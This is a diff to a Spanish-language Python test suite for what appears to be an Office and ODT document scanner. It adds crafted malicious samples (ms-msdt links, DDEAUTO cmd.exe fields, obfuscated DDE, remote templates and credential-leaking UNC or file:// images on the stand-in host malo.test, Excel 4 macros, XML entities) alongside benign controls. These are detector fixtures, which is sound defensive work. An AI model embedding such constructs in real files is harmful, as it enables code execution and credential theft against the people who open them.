@@ -122,7 +122,7 @@ MALOS = {
     "página incrustada.docx": (office("docx", ("frame", "http://malo.test/", True)), "otro lugar"),
     "mhtml.docx": (office("docx", ("image", "mhtml:http://malo.test/a!x-usc:", True)), "otro lugar"),
     "imagen que delata la clave.docx": (office("docx", ("image", "file://malo.test/a.png", True)), "otro lugar"),
-    "enlace que ejecuta.docx": (office("docx", ("hyperlink", "ms-msdt:/id PCWDiagnostic", True)), "otro lugar"),
+    "enlace que ejecuta.docx": (office("docx", ("hyperlink", "ms-msdt:/id PCWDiagnostic", True)), "abre un programa"),
     "altchunk.docx": (office("docx", ("aFChunk", "a.rtf", False)), "sin convertir"),
     "dde.docx": (office("docx", word__header1_xml=campo_de_word("DDEAUTO c:\\\\cmd.exe")), "DDE"),
     "dde en trozos.docx": (office("docx", word__header1_xml=campo_de_word(" D", "D&#69;", "AUTO c:")), "DDE"),
@@ -131,6 +131,48 @@ MALOS = {
     "dde en UTF-16.docx": (
         office("docx", word__header1_xml=f"\ufeff{campo_de_word('DDE c:')}".encode("utf-16-le")), "DDE"),
     "dde de una pieza.docx": (office("docx", word__header1_xml="<x><y w:instr='DDE c:'/></x>"), "DDE"),
+    "dde armado por otro campo.docx": (
+        office("docx", word__header1_xml=campo_de_word(" ", campo="QUOTE 68 68 69 65 85 84 79")), "DDE"),
+    "dde acabado por otro campo.docx": (office("docx", word__header1_xml=campo_de_word("DD", campo="REF E")), "DDE"),
+    "dde letra por letra.docx": (
+        office("docx", word__header1_xml=campo_de_word("IF 1 = 1 ", campo="QUOTE 68 68 69")), "DDE"),
+    "imagen por campo.docx": (
+        office("docx", word__header1_xml=campo_de_word(r' INCLUDEPICTURE "\\\\malo\\a.png" \d')), "otro lugar"),
+    "texto por campo.docx": (
+        office("docx", word__header1_xml=campo_de_word(" INCLUDETEXT ", ' "https://malo.test/a" ')), "otro lugar"),
+    "vínculo por campo.docx": (
+        office("docx", word__header1_xml=campo_de_word(r"LINK Excel.Sheet.8 \\malo\a.xls A1 \a")), "otro lugar"),
+    "imagen con porcentajes.docx": (office("docx", ("image", "file:%5C%5Cmalo%5Ca.png", True)), "otro lugar"),
+    "dde fuera de su carpeta.docx": (office("docx", otra__d_xml=campo_de_word("DDE c:")), "DDE"),
+    "dde con otra extensión.docx": (office("docx", word__d_dat=campo_de_word("DDE c:")), "DDE"),
+    "dde en otras letras.docx": (
+        office("docx", word__d_xml="<?xml version='1.0' encoding='utf-7'?><a/>"), "dañadas"),
+    "dde fuera de su carpeta.xlsx": (office("xlsx", xl__e__l1_xml="<externalLink><ddeLink/></externalLink>"), "DDE"),
+    "dde tras mucho relleno.xlsx": (
+        office("xlsx", xl__e__l1_xml=f"<a>{' ' * (2**20 - 8)}<ddeLink/></a>"), "DDE"),
+    "macro de Excel 4.xlsx": (office("xlsx", xl__hojas__s_xml="<xm:macrosheet/>"), "macros"),
+    "macro de Excel 4 por su relación.xlsx": (office("xlsx", ("xlMacrosheet", "hojas/s.bin", False)), "macros"),
+    "entidades en una hoja.xlsx": (
+        office("xlsx", xl__worksheets__s_xml='<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'), "dañad"),
+    "consulta web.xlsx": (
+        office("xlsx", xl__connections_xml='<connection refreshOnLoad="1"><webPr url="https://malo.test"/></connection>'),
+        "se actualiza sola"),
+    "consulta a una base.xlsx": (
+        office(
+            "xlsx", xl__q_xml='<queryTable refreshOnLoad="true"/>',
+            xl__connections_xml='<connection><dbPr connection="Provider=SQLOLEDB"/></connection>'),
+        "se actualiza sola"),
+    "cinta remota.docx": (office("docx", customUI__c_xml='<customUI onLoad="http://malo/t.dotm!x"/>'), "plantilla"),
+    "mimetype y plantilla.docx": (
+        office("docx", ("attachedTemplate", "https://malo.test/t.dotm", True), __mimetype="x"), "plantilla"),
+    "mimetype y dde.docx": (office("docx", __mimetype="x", word__header1_xml=campo_de_word("DDE c:")), "DDE"),
+    "mimetype y macros.docx": (office("docx", tipo_principal=MACRO_WORD, __mimetype="x"), "macros"),
+    "con otras mayúsculas.docx": (
+        comprimido({"[content_types].xml": "<Types/>", "word/h.xml": campo_de_word("DDE c:")}), "DDE"),
+    "imagen que delata la clave.odt": (odt('<draw:image xlink:href="file://malo/a.png"/>'), "otro lugar"),
+    "imagen en la red.odt": (odt(r'<draw:image xlink:href="\\malo\a.png"/>'), "otro lugar"),
+    "macro vieja.odt": (odt('<x:event-listener xlink:href="macro:///Standard.M.Main()"/>'), "macros"),
+    "enlace que ejecuta.odt": (odt('<text:a xlink:href="ms-msdt:/id"/>'), "abre un programa"),
     "dde.xlsx": (office("xlsx", xl__externalLinks__e1_xml="<externalLink><ddeLink/></externalLink>"), "DDE"),
     "botón que ejecuta.pptx": (office("pptx", ppt__slides__s1_xml='<a action="pp&#97;ction://program"/>'), "DDE"),
     "macros.docx": (office("docx", tipo_principal=MACRO_WORD), "macros"),
@@ -195,12 +237,21 @@ BUENOS = {
         "docx", ("hyperlink", "https://www.funcionpublica.gov.co", True), ("hyperlink", "mailto:a@b.co", True),
         ("hyperlink", r"\\servidor\planeacion\acta.docx", True), ("image", "https://www.cartagena.gov.co/l.png", True),
         ("image", "media/image1.png", False), word__media__image1_png=imagen(),
-        word__header1_xml=campo_de_word(" PAGE "), word__footer1_xml=campo_de_word(' HYPERLINK "https://x.co/DDE" ')),
+        word__header1_xml=campo_de_word(" PAGE "), word__header2_xml=campo_de_word(" IF ", campo="PAGE"),
+        word__header3_xml=campo_de_word(" INCLUDEPICTURE &quot;https://www.cartagena.gov.co/l.png&quot; "),
+        word__header4_xml=campo_de_word("= ", campo="MERGEFIELD Meta"),
+        word__footer1_xml=campo_de_word(' HYPERLINK "https://x.co/DDE" ')),
+    "pegado de una página.docx": office(
+        "docx", ("hyperlink", "javascript:void(0)", True), ("hyperlink", "javascript:window.print()", True)),
     "oficio con plantilla.docx": office("docx", ("attachedTemplate", "file:///C:\\Plantillas\\oficio.dotx", True)),
     "oficio con otra plantilla.docx": office("docx", ("attachedTemplate", "Normal.dotm", True)),
     "con gráfico.docx": office("docx", ("package", "embeddings/hoja.xlsx", False), word__embeddings__hoja_xlsx=xlsx()),
     "con imágenes de Office.docx": office("docx", word__media__image1_emz=b"\x1f\x8b\x08\x00"),
     "plan.xlsx": xlsx(),
+    "con otras mayúsculas.xlsx": comprimido({"[content_types].xml": "<Types/>", "xl/workbook.xml": "<a/>"}),
+    "consulta de Power Query.xlsx": office(
+        "xlsx", xl__connections_xml='<a><connection refreshOnLoad="1"><dbPr connection="Microsoft.Mashup.OleDb"/>'
+        "</connection></a>", xl__customProperty1_bin="<?xml version='1.0' encoding='utf-8'?><a/>".encode("utf-16-le")),
     "enlazado con otro libro.xlsx": office(
         "xlsx", ("externalLinkPath", r"file:///\\servidor\planeacion\metas.xlsx", True),
         xl__externalLinks__e1_xml="<externalLink><externalBook/></externalLink>", xl__ctrlProps__c1_xml="<a/>"),
